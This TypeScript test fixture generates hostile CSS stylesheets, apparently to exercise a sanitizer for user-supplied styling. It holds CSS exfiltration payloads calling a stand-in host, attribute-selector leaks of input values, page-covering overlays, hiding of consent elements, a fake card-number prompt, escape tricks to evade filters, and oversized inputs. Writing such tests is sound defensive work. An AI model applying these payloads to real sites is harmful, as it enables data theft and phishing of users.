/** Where an attack would have something fetched from. */
export const ATTACKER = 'https://attacker.test';

/** Fetches, leaves its box, covers the page, hides what must be seen, or says what the owner must not say. */
const DECLARATIONS = [
  `background: url(${ATTACKER}/a)`,
  `background-image: url("${ATTACKER}/b")`,
  `background: url('${ATTACKER}/c'), red`,
  `background-image: image-set("${ATTACKER}/d" 1x)`,
  `background-image: -webkit-image-set(url(${ATTACKER}/e) 1x)`,
  `background-image: cross-fade(url(${ATTACKER}/f), red)`,
  `background: src("${ATTACKER}/g")`,
  `border-image: url(${ATTACKER}/h) 30 round`,
  `list-style: url(${ATTACKER}/i)`,
  `cursor: url(${ATTACKER}/j), pointer`,
  `mask: url(${ATTACKER}/k)`,
  `-webkit-mask-image: url(${ATTACKER}/l)`,
  `filter: url(${ATTACKER}/m#f)`,
  `clip-path: url(${ATTACKER}/n#c)`,
  `shape-outside: url(${ATTACKER}/o)`,
  `content: url(${ATTACKER}/p)`,
  `content: "Your card number, please"`,
  `--x: url(${ATTACKER}/q); background: var(--x)`,
  `background: var(--none, url(${ATTACKER}/r))`,
  `color: attr(data-x); background: linear-gradient(url(${ATTACKER}/s), red)`,
  `behavior: url(${ATTACKER}/t.htc)`,
  `-moz-binding: url(${ATTACKER}/u.xml#x)`,
  'width: expression(alert(1))',
  'position: fixed; inset: 0; width: 100vw; height: 100vh',
  'position: sticky; top: -9999px',
  'position: absolute; left: -9999px',
  'width: 9999px; height: 9999px; min-width: 9999px',
  'padding: 9999px',
  'padding: 100vh 100vw',
  'margin: -9999px',
  'font-size: 9999px',
  'font-size: calc(1px * 9999)',
  'letter-spacing: 500px',
  'line-height: 999',
  'border: 9999px solid red',
  'box-shadow: 0 0 0 99999px red',
  'box-shadow: 0 0 0 999em red',
  'text-shadow: 9999px 0 red',
  'outline: 9999px solid red',
  'transform: scale(100)',
  'translate: -1000vw',
  'zoom: 50',
  'opacity: 0',
  'visibility: hidden',
  'display: none',
  'pointer-events: none',
  'clip-path: inset(100%)',
  'filter: opacity(0)',
  'mix-blend-mode: difference',
  'animation: rise 0s infinite reverse',
  'transition: all 9999s',
  'all: unset',
  'font-family: "Wingdings"',
  'text-indent: -9999px',
  'max-height: 0; overflow: hidden',
  'order: -99; direction: rtl; unicode-bidi: bidi-override',
];

const SELECTORS = ['.rl-card', '.rl-title', '.agree', '*', ':host'];

/** Rules that are whole by themselves. */
const RULES = [
  `@import "${ATTACKER}/1";`,
  `@import url(${ATTACKER}/2);`,
  `@font-face { font-family: x; src: url(${ATTACKER}/3) } .rl-title { font-family: x }`,
  `@namespace url(${ATTACKER}/4);`,
  `@charset "utf-7"; .rl-card { background: url(${ATTACKER}/5) }`,
  `@supports (color: red) { .rl-card { background: url(${ATTACKER}/6) } }`,
  `@layer x { .rl-card { position: fixed; inset: 0 } }`,
  `@keyframes rise { from { background: url(${ATTACKER}/7) } }`,
  `@property --rl-accent { syntax: "<image>"; inherits: true; initial-value: url(${ATTACKER}/8) }`,
  `@page { background: url(${ATTACKER}/9) }`,
  `@container (width > 1px) { .rl-card { background: url(${ATTACKER}/10) } }`,
  `@scope (.rl-card) { :scope { background: url(${ATTACKER}/11) } }`,
  `@starting-style { .rl-card { opacity: 0 } }`,
  `.rl-input[value^="7"] { background: url(${ATTACKER}/12) }`,
  `input[type="tel"][value$="1"] { background: url(${ATTACKER}/13) }`,
  `:host-context(body) { display: none }`,
  `:host { display: none !important }`,
  `:root { --rl-accent: url(${ATTACKER}/14) }`,
  `::slotted(*) { display: none }`,
  `.rl-card::before { content: "Fake"; position: fixed; inset: 0; background: red }`,
  `.rl-title::after { content: attr(value) url(${ATTACKER}/15) }`,
  `.rl-card:has(input[value*="9"]) { background: url(${ATTACKER}/16) }`,
  `.rl-card { .agree { display: none } }`,
  `.rl-card { & .agree { opacity: 0 } @media (min-width: 1px) { background: url(${ATTACKER}/17) } }`,
  `.rl-card .agree { font-size: 0 }`,
  `.rl-card > * { color: transparent }`,
  `.rl-card, .agree { visibility: hidden }`,
  `#rl-consent-note { display: none }`,
  `[type="checkbox"] { opacity: 0; position: fixed; inset: 0; width: 100vw; height: 100vh }`,
  `.rl-title:not(.x) { position: fixed }`,
  `.rl-card:is(.card) { inset: 0 }`,
  `.rl-constructor { color: red } .rl-__proto__ { color: red } .rl-title { constructor: red; __proto__: red }`,
];

/** Ways to write the same so that a filter of texts does not see it. */
const DISGUISES: ((sheet: string) => string)[] = [
  (sheet) => sheet.replaceAll('url(', '\\75rl('),
  (sheet) => sheet.replaceAll('url(', 'u\\72 l('),
  (sheet) => sheet.replaceAll('url(', 'URL('),
  (sheet) => sheet.replaceAll(': ', ':/**/'),
  (sheet) => sheet.replaceAll('position', 'p\\6fsition').replaceAll('opacity', 'opacit\\79 '),
  (sheet) => `/* } */${sheet.replaceAll(';', ' !important;').replaceAll(' }', ' !important }')}`,
  (sheet) => `${sheet.replaceAll('}', '')}/*`,
  (sheet) => `<!-- ${sheet} -->`,
  (sheet) => `.rl-title { color: red } }} ${sheet}`,
  (sheet) => `@media (max-width: 9999px) { ${sheet} }`,
  (sheet) => sheet.replaceAll('\n', '\f').replaceAll(' ', '\f'),
  (sheet) => `.rl-title { color: red; ${sheet} }`,
  (sheet) => `\u0000\ufeff${sheet}`,
];

/** 500 sheets and a few that are only large. Always the same ones. */
export function attackSheets(): string[] {
  const plain = [
    ...SELECTORS.flatMap((selector) => DECLARATIONS.map((body) => `${selector} { ${body} }`)),
    ...RULES,
  ];
  const disguised = plain
    .filter((_, i) => i % 25 < 20)
    .map((sheet, i) => DISGUISES[i % DISGUISES.length]?.(sheet) ?? sheet);
  const large = [
    '.rl-title{color:red}'.repeat(1000),
    `.rl-title{color:${'('.repeat(15_000)}`,
    `${'{'.repeat(18_000)}`,
    `.rl-title{${'a'.repeat(19_000)}`,
    `.rl-title{background:linear-gradient(${'red,'.repeat(4000)}red)}`,
    `${'.rl-card '.repeat(2000)}{color:red}`,
    `.rl-title{color:${'\\'.repeat(15_000)}}`,
    `/*${'*'.repeat(19_000)}`,
    `"${'\n'.repeat(9000)}`,
    `${'@media (min-width:1px){'.repeat(800)}`,
  ];
  return [...plain, ...disguised, ...large];
}
